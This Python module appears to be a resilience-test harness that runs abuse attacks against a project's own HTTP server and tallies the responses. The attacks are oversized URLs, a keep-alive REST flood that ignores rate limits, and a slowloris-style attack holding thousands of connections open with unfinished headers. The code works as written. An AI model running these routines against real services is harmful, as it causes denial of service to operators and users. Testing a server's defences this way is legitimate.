"""Abuse attacks over plain HTTP: long URLs, a REST flood, slow request headers.

Issue 19, "Measured" 1, 2 (REST) and 4: what an anonymous client can do without ever opening
a WebSocket. Each function runs until ``ctx.deadline`` and returns its tally.
"""

from __future__ import annotations

import asyncio
import errno
from collections import Counter

from . import rawhttp
from .attack_kit import HOST, AttackContext, Tally

#: A 60,000-character query (the issue's 13.96 s request) and a 30 KB path answering 404.
LONG_QUERY = "/healthz?" + "j" * 60_000
LONG_PATH = "/" + "j" * 30_000
HISTORY = "/api/v1/market-data/history?symbol=BTCUSDT&resolution=1&to=1&limit=1000"


async def long_url(ctx: AttackContext) -> Tally:
    """The long query and the long path, alternately, a few times, spread over the window.

    One request at a time: if one is still unanswered at the deadline, no further one is
    queued behind it (each would freeze a vulnerable server again, after the window).
    """
    tally: Tally = Counter()
    count = 4 if ctx.quick else 6
    loop = asyncio.get_running_loop()
    start = loop.time()
    for n in range(count):
        due = start + n * ctx.duration_s / count
        if due >= ctx.deadline:
            break
        await asyncio.sleep(max(due - loop.time(), 0.0))
        target = LONG_QUERY if n % 2 == 0 else LONG_PATH
        kind = "query" if n % 2 == 0 else "path"
        try:
            status, _ = await rawhttp.get(HOST, ctx.port, target, max(ctx.remaining(), 0.1))
        except TimeoutError:
            tally[f"{kind}:unanswered_at_deadline"] += 1
            break
        except (OSError, rawhttp.HttpError, asyncio.IncompleteReadError) as exc:
            tally[f"{kind}:failed:{type(exc).__name__}"] += 1
            continue
        tally[f"{kind}:http:{status}"] += 1
    return tally


async def rest_flood(ctx: AttackContext) -> Tally:
    """Ten keep-alive clients asking for expensive history back to back; a 429 is counted
    and ignored (an attacker does not honour ``Retry-After``)."""
    tally: Tally = Counter()
    per_client = 20_000

    async def client() -> None:
        http = rawhttp.KeepAliveClient(HOST, ctx.port)
        try:
            for _ in range(per_client):
                if ctx.remaining() <= 0:
                    return
                try:
                    async with asyncio.timeout(max(ctx.remaining(), 0.01)):
                        status = await http.get(HISTORY)
                except TimeoutError:
                    tally["unanswered_at_deadline"] += 1
                    return
                except (OSError, rawhttp.HttpError, asyncio.IncompleteReadError) as exc:
                    tally[f"failed:{type(exc).__name__}"] += 1
                    await asyncio.sleep(0.05)  # a refused connect must not spin
                    continue
                tally[f"http:{status}"] += 1
        finally:
            tally["connections"] += http.connections
            http.close()

    await asyncio.gather(*(client() for _ in range(10)))
    return tally


class _SlowHeaders(asyncio.Protocol):
    """A request that never ends its header block; notes whether the server gave up on it."""

    def __init__(self) -> None:
        self.transport: asyncio.Transport | None = None
        self.answered = False
        self.lost = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        transport.write(f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\n".encode())

    def data_received(self, data: bytes) -> None:
        self.answered = True  # e.g. 408 or 400: the server refused to wait

    def connection_lost(self, exc: Exception | None) -> None:
        self.lost = True


async def slow_headers(ctx: AttackContext) -> Tally:
    """Many connections, each sending one more header line every few seconds.

    As many as the open-files limit allows, keeping 400 descriptors for everything else (the
    server inherited this process's limit and needs one descriptor per connection too).
    """
    tally: Tally = Counter()
    wanted = 1_000 if ctx.quick else 2_000
    count = max(min(wanted, ctx.nofile - 400), 0)
    if count < wanted:
        tally["capped_by_nofile"] = wanted - count
    every = 1.0 if ctx.quick else 3.0
    loop = asyncio.get_running_loop()
    conns: list[_SlowHeaders] = []

    async def open_one() -> None:
        try:
            async with asyncio.timeout(min(5.0, max(ctx.remaining(), 0.1))):
                _, proto = await loop.create_connection(_SlowHeaders, HOST, ctx.port)
        except TimeoutError:
            tally["connect_timeout"] += 1
            return
        except OSError as exc:
            tally[f"connect_failed:{errno.errorcode.get(exc.errno or 0, 'other')}"] += 1
            return
        conns.append(proto)

    try:
        for first in range(0, count, 200):
            if ctx.remaining() <= 0:
                break
            await asyncio.gather(*(open_one() for _ in range(min(200, count - first))))
        tally["opened"] = len(conns)
        lines = 0
        while ctx.remaining() > 0 and lines < 1_000:
            await asyncio.sleep(min(every, max(ctx.remaining(), 0.0)))
            lines += 1
            for proto in conns:
                if proto.transport is not None and not proto.transport.is_closing():
                    proto.transport.write(f"X-Slow-{lines}: {'x' * 8}\r\n".encode())
    finally:
        tally["answered_by_server"] = sum(p.answered for p in conns)
        tally["closed_by_server"] = sum(p.lost for p in conns)
        for proto in conns:
            if proto.transport is not None:
                proto.transport.abort()
        await asyncio.sleep(0)  # let the aborts run before the next window
    return tally
